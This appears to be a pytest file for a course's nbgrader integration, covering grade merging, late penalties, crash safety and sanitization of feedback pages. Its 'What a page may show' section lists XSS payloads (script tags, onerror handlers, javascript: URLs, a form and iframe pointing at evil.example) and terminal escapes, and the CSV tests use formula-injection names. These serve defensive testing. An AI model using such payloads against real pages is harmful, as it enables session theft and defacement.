"""Results of grading in nbgrader's records: as its own autograde leaves them, whole or not at all, and harmless."""

import base64
import html.parser
import io
import os
import re
import shutil
import signal
import subprocess
import sys
from datetime import UTC, datetime, timedelta

import nbformat
import pytest
from conftest import ROOT
from nbgrader import preprocessors as nbg
from nbgrader import utils
from nbgrader.api import Gradebook
from PIL import Image

from course.errors import CourseError
from course.grading import analysis, gradebook
from course.grading.results import Graded, Mark
from course.grading.sanitize import safe_markdown, safe_output, safe_text
from course.plots import grading
from course.publish import build, demo

UNIT = "03_large_batch"
DUE = datetime(2026, 3, 1, 12, tzinfo=UTC)
ODD = 'Zoë O\'Neil; "x" <b>{0} & ¥100%'


@pytest.fixture(scope="module")
def source():
    return build.source_notebook(UNIT)


def grade_cells(source):
    return [c for c in source.cells if c.metadata.get("nbgrader", {}).get("grade")]


def graded(source, learner="ann", share=lambda number: 1, text=None, received=DUE, **fields):
    """A Graded by hand: test number i gets `share(i)` of its points, free-text answers are `text`."""
    nb, marks = build.release_notebook(source), []
    for cell in grade_cells(nb):
        if cell.cell_type == "markdown":
            cell.source = text or cell.source
        else:
            points = cell.metadata.nbgrader.points
            marks.append(Mark(build.grade_id(cell), points * share(len(marks)), points, f"report {len(marks)}"))
    return Graded(learner, UNIT, **{"marks": marks, "notebook": nb, "received": received, "fingerprint": "f"} | fields)


def enter(course, *them):
    for one in them:
        gradebook.save(course / "shards" / "0.db", one)
    return gradebook.merge([course / "shards" / "0.db"], course)


def book(course):
    return Gradebook(f"sqlite:///{course / 'gradebook.db'}")


def state(course, learner="ann"):
    """What formgrader and export read of a submission."""
    with book(course) as b:
        notebook = b.find_submission_notebook(UNIT, UNIT, learner)
        grades = {g.name: (g.auto_score, g.manual_score, g.extra_credit, g.needs_manual_grade) for g in notebook.grades}
        comments = {c.name: (c.auto_comment, c.manual_comment) for c in notebook.comments}
        return grades, comments, notebook.late_submission_penalty, notebook.assignment.timestamp, notebook.score


def thirds(number):
    return (number % 3) / 2


def test_marks_become_grades_and_the_autograded_notebook_says_the_same(course, source):
    given = [graded(source, who, thirds, "my answer") for who in ("ann", ODD)]
    assert enter(course, *given) == 2
    scores = demo.scores(UNIT, course)
    for one in given:
        assert scores[one.learner] == {mark.cell: (mark.score, mark.points) for mark in one.marks}
        folder = course / "autograded" / one.learner / UNIT
        nb = nbformat.read(folder / f"{UNIT}.ipynb", as_version=4)
        told = {build.grade_id(c): utils.determine_grade(c) for c in grade_cells(nb) if c.cell_type == "code"}
        assert told == scores[one.learner]
        assert (folder / "timestamp.txt").read_text() == "2026-03-01 12:00:00.000000 UTC"
        assert {path.stat().st_mode & 0o777 for path in folder.iterdir()} == {0o444}
    kept = gradebook.records(course)
    assert [one.learner for one in kept] == [ODD, "ann"]
    assert kept[1].marks == given[0].marks and kept[1].received == DUE and kept[1].notebook is None


def by_hand(course):
    """A teacher grades: a text, a test that failed, extra credit, a comment."""
    with book(course) as b:
        text, *tests = sorted(
            b.find_submission_notebook(UNIT, UNIT, "ann").grades, key=lambda g: g.cell.cell_type == "code"
        )
        text.manual_score, text.needs_manual_grade, text.extra_credit = 2, False, 1
        tests[0].manual_score, tests[0].needs_manual_grade = 0.5, False
        b.find_submission_notebook(UNIT, UNIT, "ann").comments[0].manual_comment = "well done"
        b.db.commit()


@pytest.mark.parametrize("text", ["my answer", None])
def test_a_new_grading_follows_the_rules_of_nbgraders_own_autograde(text, course, source):
    """The independent answer: nbgrader's own steps on a copy of the gradebook, with the same autograded notebook."""
    (course / "nbgrader_config.py").write_text("c = get_config()\nc.LateSubmissionPlugin.penalty_method = 'zero'\n")
    with book(course) as b:
        b.update_or_create_assignment(UNIT, duedate=DUE)
    enter(course, graded(source, share=thirds, text="first answer"))
    by_hand(course)
    theirs = shutil.copy(course / "gradebook.db", course / "theirs.db")
    late = DUE + timedelta(hours=1)
    second = graded(source, share=lambda number: 1 - thirds(number), text=text, received=late, fingerprint="g")
    assert enter(course, second) == 1

    with Gradebook(f"sqlite:///{theirs}") as b:
        b.update_or_create_submission(UNIT, "ann", timestamp=late)
    path = course / "autograded" / "ann" / UNIT / f"{UNIT}.ipynb"
    asked = {"notebook": UNIT, "assignment": UNIT, "student": "ann", "db_url": f"sqlite:///{theirs}"}
    config, _ = gradebook._course(course)
    for step in (nbg.SaveAutoGrades(), nbg.AssignLatePenalties(config=config)):
        step.preprocess(nbformat.read(path, as_version=4), {"nbgrader": asked})
    mine = state(course)
    shutil.move(theirs, course / "gradebook.db")
    assert mine == state(course)
    grades, comments, penalty, timestamp, score = mine
    assert penalty == score > 0 and timestamp == late.replace(tzinfo=None)
    assert [c for c in comments.values() if c[0] == "No response."] or text
    assert any(manual == 2 and needs for _, manual, _, needs in grades.values()), "looked at again"


def test_entering_again_what_is_there_leaves_a_teachers_work_alone(course, source):
    one = graded(source, text="my answer")
    enter(course, one)
    by_hand(course)
    before = state(course)
    assert enter(course, one) == 0
    assert state(course) == before
    with book(course) as b:
        b.remove_submission(UNIT, "ann")
    assert gradebook.records(course) == [], "removed in nbgrader, so not graded"


@pytest.mark.filterwarnings("ignore:.*fork:DeprecationWarning")
def test_a_process_killed_while_it_saves_leaves_the_shard_as_it_was(tmp_path, source):
    shard = tmp_path / "0.db"
    gradebook.save(shard, graded(source, fingerprint="old"))
    child = os.fork()
    if not child:
        with gradebook._opened(shard) as db:
            db.execute("UPDATE course_graded SET record = 'half'")
            os.kill(os.getpid(), signal.SIGKILL)
    _, status = os.waitpid(child, 0)
    assert os.WTERMSIG(status) == signal.SIGKILL
    (kept,) = gradebook.results(shard)
    assert kept.fingerprint == "old" and kept.notebook.cells
    os.truncate(shard, 5000)
    with pytest.raises(CourseError, match="could not read or write the shard .*0.db"):
        list(gradebook.results(shard))


def test_a_merge_that_fails_halfway_enters_nothing_of_that_submission(course, source, monkeypatch):
    with book(course) as b:
        b.update_or_create_assignment(UNIT, duedate=DUE)
    with monkeypatch.context() as patch:
        patch.setattr("nbgrader.plugins.LateSubmissionPlugin.late_submission_penalty", lambda *_: 1 / 0)
        with pytest.raises(ZeroDivisionError):
            enter(course, graded(source, received=DUE + timedelta(1)))
    with book(course) as b:
        assert not b.students and not b.assignment_submissions(UNIT)
    assert gradebook.merge((course / "shards").iterdir(), course) == 1
    assert not list((course / "shards").iterdir()) and state(course)[-1] > 0


def test_what_was_not_graded_scores_nothing_and_the_reason_is_told(source):
    one = graded(source, note="the notebook is not JSON")
    one.marks = one.marks[:1]
    nb = gradebook.finished(one)
    scores = [utils.determine_grade(c)[0] for c in grade_cells(nb) if c.cell_type == "code"]
    assert scores[0] > 0 and set(scores[1:]) == {0}
    assert nb.cells[0].outputs[0].text == "the notebook is not JSON"
    with pytest.raises(ValueError, match="no grade cell other-hidden"):
        gradebook.finished(graded(source, marks=[Mark("other-hidden", 1, 1, "")]))


def test_a_unit_that_is_not_in_the_gradebook_is_one_sentence(prepared, tmp_path, source):
    shutil.copy(prepared / "gradebook.db", tmp_path)
    with book(tmp_path) as b:
        b.remove_assignment(UNIT)
    with pytest.raises(CourseError, match="does not know the cells of 03_large_batch .* prepare it first"):
        enter(tmp_path, graded(source))


@pytest.mark.parametrize(
    "name", ["", ".x", " x", "x ", "a*", "a?", "a[1]", "a/b", "a\nb", "\x1b[31m", "\udcff", "x" * 129]
)
def test_a_learner_nbgrader_cannot_take_is_one_sentence(name):
    with pytest.raises(CourseError, match="which nbgrader cannot take. Rename it"):
        gradebook.check_learner(name)


def test_odd_names_are_taken():
    for name in (ODD, "a+b", "学生 1", "-x", "=1+1"):
        gradebook.check_learner(name)


# What a page may show


ATTACKS = [
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "[click](javascript:steal()) <javascript:steal()> [x]: <JaVaScRiPt:steal()>",
    "<a href='&#106;avascript:steal()'>x</a> [d](data:text/html;base64,PHNjcmlwdD4=)",
    "<iframe src='//evil.example'></iframe> <meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import url(//evil.example/x.css)</style> <b style='background:url(//evil.example)'>x</b>",
    "<svg onload=steal()><script>steal()</script></svg>",
    "![a](//evil.example/x.png) ![attached](attachment:x.png)",
    "```mermaid\n<img src=x onerror=steal()>\n```",
    "<math><mtext></table><mglyph><style><img src=x onerror=steal()>",
    "</div></div></div></body><form action='//evil.example'><input name=x>",
    "$\\href{javascript:steal()}{x}$ $$\\require{//evil.example/x}$$",
    "half a pair \ud800 and \x1b]0;title\x07 \x00",
]
JS, SVG = "application/javascript", "<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'/>"
OUTPUTS = [
    {"output_type": "stream", "name": "stdout", "text": "\x1b[31m<script>steal()</script>\x1b]8;;//evil.example\x07"},
    {"output_type": "error", "ename": "<script>", "evalue": "<b>", "traceback": ["<script>steal()</script>", 3]},
    {
        "output_type": "display_data",
        "data": {"text/html": ATTACKS[0], "image/svg+xml": SVG, JS: "steal()"},
        "metadata": {},
    },
    {"output_type": "display_data", "data": {"image/png": '"><script>steal()</script>'}, "metadata": {}},
    {
        "output_type": "execute_result",
        "data": {"text/latex": "$x$", "text/plain": ["<script>", "steal()"]},
        "metadata": {},
    },
    {"output_type": "display_data", "data": [], "metadata": 1},
    {"output_type": "update_display_data"},
    {},
]


class Page(html.parser.HTMLParser):
    """The tags of a page with their attributes."""

    def __init__(self, text):
        super().__init__()
        self.tags = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def count(self, *names):
        return sum(tag in names for tag, _ in self.tags)


def hostile(source, learner):
    """A submission that attacks whoever looks at it, in every cell it can write to."""
    one = graded(source, learner, text="\n\n".join(ATTACKS))
    solutions = [
        c for c in one.notebook.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")
    ]
    for cell in solutions:
        cell.source, cell.outputs = ATTACKS[0], [nbformat.from_dict(output) for output in OUTPUTS]
    for cell in one.notebook.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader"):
            cell.attachments = {"x.png": {"text/html": "PHNjcmlwdD4="}}
    for mark in one.marks:
        mark.report = ATTACKS[0] + "\x1b[2J"
    one.note = ATTACKS[1]
    return one


def test_feedback_holds_nothing_that_runs_and_nothing_that_is_secret(course, source):
    (course / "nbgrader_config.py").write_text("c = get_config()\nc.HTMLExporter.sanitize_html = False\n")
    enter(course, graded(source, "honest", text="an answer"), hostile(source, ODD))
    gradebook.feedback(UNIT, course)
    texts = [(course / "feedback" / who / UNIT / f"{UNIT}.html").read_text() for who in ("honest", ODD)]
    honest, attack = map(Page, texts)
    assert "an answer" in texts[0] and "&lt;script&gt;steal()" in texts[1]
    runs = "script iframe img svg object embed form input meta base link style math".split()
    assert attack.count(*runs) == honest.count(*runs)
    for tag, attributes in attack.tags:
        assert not [name for name in attributes if name.startswith("on")], tag
        assert not {"javascript", "data"} & {attributes.get(name, "").split(":")[0].lower() for name in ("href", "src")}
    assert not set("\x00\x07\x1b") & set(texts[1])
    assert "TeX-AMS_CHTML-full,Safe" in texts[1], "MathJax of these pages refuses \\href{javascript:...}"
    secrets = ["BEGIN HIDDEN", "BEGIN SOLUTION", "MARK SCHEME"]
    for cell in source.cells:
        if (build.grade_id(cell) or "").endswith("-hidden"):
            secrets.append(cell.source.splitlines()[1])
        for solution in re.findall(r"BEGIN SOLUTION\n(.*?)END SOLUTION", cell.source, re.S):
            secrets += [line.strip() for line in solution.splitlines() if len(line.strip()) > 30]
    given = "".join(cell.source for cell in build.release_notebook(source).cells)
    shown = " ".join(html.unescape(text) for text in texts)
    assert len(secrets) > 40 and not [secret for secret in secrets if secret in shown and secret not in given]


def test_pages_of_nbgraders_own_commands_and_of_formgrader_are_clean_by_the_courses_configuration(source):
    from nbconvert import HTMLExporter

    config, _ = gradebook._course(ROOT)
    assert HTMLExporter(config=config).environment.filters["markdown2html"] is safe_markdown


def test_nbgrader_goes_on_from_there(course, source):
    """Its own commands, as a teacher types them."""
    enter(course, graded(source, "ann", text="an answer"), graded(source, ODD, thirds))
    demo.nbgrader("generate_feedback", UNIT, course)
    assert (course / "feedback" / ODD / UNIT / f"{UNIT}.html").is_file()
    call = [sys.executable, "-m", "nbgrader", "export", f"--CourseDirectory.root={course}", f"--to={course}/grades.csv"]
    subprocess.run(call, cwd=ROOT, check=True, capture_output=True)
    text = (course / "grades.csv").read_text()
    assert text.count(UNIT) == 2 and "Zoë" in text


def test_markdown_keeps_what_is_only_markup():
    text = "# Title\n\nA *b* `x < 1` [link](https://example.org) $a<b$\n\n<details><summary>Hint</summary>yes</details>"
    shown = safe_markdown(text)
    for kept in ("<h1>", "<em>", "<code>x &lt; 1</code>", 'href="https://example.org"', "$a&lt;b$", "<summary>"):
        assert kept in shown


def picture(kind, size=(3, 2)):
    out = io.BytesIO()
    Image.new("1", size).save(out, kind)
    return base64.encodebytes(out.getvalue()).decode()


def test_pictures_are_kept_if_they_are_what_they_say():
    def kept(data):
        found = safe_output(
            {"output_type": "display_data", "data": data, "metadata": {"image/png": {"width": "1 onload=x"}}}
        )
        return found and dict(found.data)

    png, jpeg = picture("PNG"), picture("JPEG")
    assert kept({"image/png": png, "text/plain": "<Figure>", "text/html": "x"}) == {
        "image/png": png.replace("\n", ""), "text/plain": "<Figure>"}  # fmt: skip
    assert kept({"image/jpeg": jpeg}) == {"image/jpeg": jpeg.replace("\n", "")}
    assert safe_output({"output_type": "display_data", "data": {"image/png": png}, "metadata": {"x": 1}}).metadata == {}
    for wrong in (
        {"image/png": jpeg},
        {"image/jpeg": png},
        {"image/png": png[:20]},
        {"image/png": picture("PNG", (9000, 9000))},
    ):
        assert kept(wrong) is None


@pytest.mark.parametrize("text", ["> " * 5000 + "x", "[" * 30_000, "<b>" * 5000, "![x](attachment:y)", ""])
def test_a_text_made_to_break_the_parser_is_shown_all_the_same(text):
    assert isinstance(safe_markdown(text), str)


def test_a_text_that_never_ends_is_cut():
    assert safe_text("x" * 100_003) == "x" * 100_000 + "\n... 3 more characters\n"
    assert safe_text(["a\r\n", "b\rc\x08", 1]) == "a\nb\nc" and safe_text({}) == ""


# Analysis


def class_of_three(source):
    """Ann solves all; Bob the visible tests, with a known mistake in lars; the notebook of =Eve cannot be read."""
    ann, bob, eve = (graded(source, who) for who in ("ann", "bob", "=Eve()"))
    for mark in bob.marks:
        if mark.cell.endswith("-hidden"):
            mark.score = 0
        if mark.cell.startswith("linear_warmup"):
            mark.score, mark.mistake = 0, "first_steps_too_high"
    eve.marks, eve.note = [], "not a notebook, " * 20
    return [ann, bob, eve]


def test_the_table_has_a_line_for_each_learner_and_fits_100_columns(source):
    text = analysis.table(class_of_three(source))
    assert max(map(len, text.splitlines())) <= 100
    total = sum(cell.metadata.nbgrader.points for cell in grade_cells(source) if cell.cell_type == "code")
    assert f"{total:g} / {total:g}" in text and f"0 / {total:g} *" in text and "* =Eve(): not a notebook" in text
    first = next(line for line in text.splitlines() if line.startswith("bob"))
    assert first.split()[1] == "1", "of leave_one_out the visible test"


def test_items_count_who_solved_an_exercise_and_name_the_mistakes(source, monkeypatch):
    monkeypatch.setattr(analysis, "_advice", lambda unit, name: {"first_steps_too_high": "Start at one step's worth."})
    found = {item.exercise: item for item in analysis.items(class_of_three(source))}
    assert (found["LARS"].solved, found["LARS"].partly, found["LARS"].mean) == (1 / 3, 1 / 3, 3)
    warmup = found["linear_warmup"]
    assert warmup.partly == 0 and warmup.mistakes == [("first_steps_too_high", 1, "Start at one step's worth.")]
    text = analysis.items_text(found.values())
    assert "1 x first_steps_too_high: Start at one" in text and max(map(len, text.splitlines())) <= 100
    assert "linear_warmup,2,3,0.3333,0.0000,0.6667,first_steps_too_high,1,Start" in analysis.items_csv(found.values())
    rows = [(item.exercise, item.solved, item.partly, [m[:2] for m in item.mistakes]) for item in found.values()]
    figure = grading.shares(rows, "a class of three")
    assert "1 × first_steps_too_high" in [text.get_text() for text in figure.axes[0].texts]


def test_every_known_mistake_has_its_advice():
    assert all(analysis._advice(UNIT, "linear_warmup").values())


def test_names_in_csv_are_no_formulas(source):
    lines = analysis.table_csv(class_of_three(source)).splitlines()
    assert [line.split(",")[0] for line in lines] == ["learner", "'=Eve()", "ann", "bob"]
    for name in ("+1", "-1", "@x", " =1", "\t=1"):
        assert analysis._harmless(name).startswith("'")
    assert analysis._harmless(-1.5) == -1.5
